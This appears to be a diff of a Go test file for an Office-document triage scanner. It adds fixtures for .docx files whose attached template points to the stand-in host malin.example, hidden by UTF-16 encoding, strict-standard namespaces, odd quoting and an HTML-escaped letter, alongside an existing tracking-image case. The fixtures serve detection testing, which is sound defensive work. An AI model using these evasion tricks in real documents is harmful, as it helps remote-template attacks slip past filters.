@@ -1,6 +1,10 @@
 package triagetest
 
-import "estran/session"
+import (
+	"strings"
+
+	"estran/session"
+)
 
 const (
 	macros   = session.ReasonMacros
@@ -52,6 +56,18 @@ func activeOffice() []Entry {
 		}, macros),
 		hostile("offre.docx", "its template comes from a site", func() []byte { return settings("https://malin.example/a.dotm") }, remote),
 		hostile("offre 2.docx", "the same, in capitals and by an address in figures", func() []byte { return settings("HTTP://3232235521/a.dotm") }, remote),
+		hostile("offre 3.docx", "the same in UTF-16, which Word reads as well", func() []byte {
+			text := relations(external("rId1", "attachedTemplate", "https://malin.example/a.dotm"))
+			return docx(para("x"), rel("rId2", "settings", "settings.xml"),
+				p("word/settings.xml", xmlHead+`<w:settings `+wordNS+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
+				file("word/_rels/settings.xml.rels", join([]byte("\xff\xfe"), wide(strings.Replace(text, "UTF-8", "UTF-16", 1)))))
+		}, remote),
+		hostile("offre 4.docx", "the same in the strict form of the standard, with other quotes and an escaped letter", func() []byte {
+			return docx(para("x"), rel("rId2", "settings", "settings.xml"),
+				p("word/settings.xml", xmlHead+`<w:settings `+wordNS+`><w:attachedTemplate r:id="rId1"/></w:settings>`),
+				p("word/_rels/settings.xml.rels", relations(`<Relationship TargetMode = 'External' Id='rId1' Target='&#104;ttps://malin.example/a.dotm' `+
+					`Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'></Relationship>`)))
+		}, remote),
 		hostile("photo de vacances.docx", "a picture that a site counts each time it is opened", func() []byte {
 			return docx(para("x"), external("rId2", "image", "http://malin.example/p.png?id=7"))
 		}, remote),
